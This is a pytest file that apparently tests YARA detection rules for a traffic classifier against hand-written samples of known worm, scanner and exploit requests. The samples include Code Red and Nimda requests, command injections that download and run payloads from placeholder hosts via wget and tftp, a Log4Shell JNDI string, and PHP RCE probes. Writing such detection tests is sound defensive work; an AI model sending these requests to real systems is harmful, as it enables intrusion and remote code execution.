"""The shipped YARA rules: each matches its own sample and none of the
others. The samples are written here from the public descriptions in the
field notes (no captured traffic)."""
import subprocess

import pytest

from conftest import FLYPAPER, ROOT

TAIL = (b"%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801"
        b"%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a")

SAMPLES = {
    "codered1": b"GET /default.ida?" + b"N" * 224 + TAIL + b" HTTP/1.0\r\n"
                b"Content-type: text/xml\r\nHOST:www.worm.com\r\n Accept: */*\r\n"
                b"Content-length: 3569 \r\n\r\n" + bytes(range(256)) * 4,
    "codered2": b"GET /default.ida?" + b"X" * 224 + TAIL + b" HTTP/1.0\r\n"
                b"Content-type: text/xml\r\nContent-length: 3379 \r\n\r\n" + b"\x00\x90" * 500,
    "nimda_scan": b"GET /scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n",
    "nimda_tftp": b"GET /scripts/root.exe?/c+tftp -i 192.0.2.66 GET Admin.dll Admin.dll HTTP/1.0\r\n\r\n",
    "nimda_admin": b"GET /scripts/Admin.dll HTTP/1.0\r\n\r\n",
    "masscan": b"GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)\r\nAccept: */*\r\n\r\n",
    "zgrab": b"GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\n\r\n",
    "nmap_nse": b"GET /nmaplowercheck1 HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\r\n\r\n",
    "research_scanner": b"GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)\r\n\r\n",
    "spider": b"GET /robots.txt HTTP/1.1\r\nHost: h\r\nUser-Agent: ExampleCrawler\r\n\r\n",
    "mozi_netgear": b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n",
    "gpon_rce": b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nUser-Agent: Hello, World\r\n\r\nXWebPageName=diag&diag_action=ping",
    "jaws_dvr": b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws HTTP/1.1\r\n\r\n",
    "thinkphp_rce": b"GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec HTTP/1.1\r\n\r\n",
    "phpunit_rce": b"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n<?php echo 1;",
    "log4shell": b"GET / HTTP/1.1\r\nX-Api-Version: ${JNDI:ldap://192.0.2.1/a}\r\n\r\n",
    "secrets_probe": b"GET /.git/config HTTP/1.1\r\nHost: h\r\n\r\n",
}

BENIGN = [
    b"GET / HTTP/1.0\r\n\r\n",
    b"GET /index.html HTTP/1.1\r\nHost: example\r\nUser-Agent: curl/7.88.1\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
    b"",
]


def classify(tmp_path, name, data):
    path = tmp_path / name
    path.write_bytes(data)
    r = subprocess.run([FLYPAPER, "classify", "--rules", f"{ROOT}/rules", str(path)],
                       capture_output=True, text=True, timeout=30)
    assert r.returncode == 0, r.stderr
    # "=tags" and "=family" lines sum the file up; the rest are matches.
    return sorted(line.split("\t")[1] for line in r.stdout.splitlines()
                  if not line.split("\t")[1].startswith("="))


@pytest.mark.parametrize("rule", sorted(SAMPLES))
def test_each_rule_matches_its_sample_and_no_other_rule_does(tmp_path, rule):
    assert classify(tmp_path, rule, SAMPLES[rule]) == [rule]


def test_every_shipped_rule_has_a_sample():
    text = "".join(open(f"{ROOT}/rules/{f}").read()
                   for f in ("worms-2001.yar", "scanners.yar", "exploits.yar"))
    import re
    rules = set(re.findall(r"^rule (\w+)", text, re.M))
    assert rules == set(SAMPLES)


@pytest.mark.parametrize("i", range(len(BENIGN)))
def test_ordinary_traffic_matches_nothing(tmp_path, i):
    assert classify(tmp_path, f"benign{i}", BENIGN[i]) == []
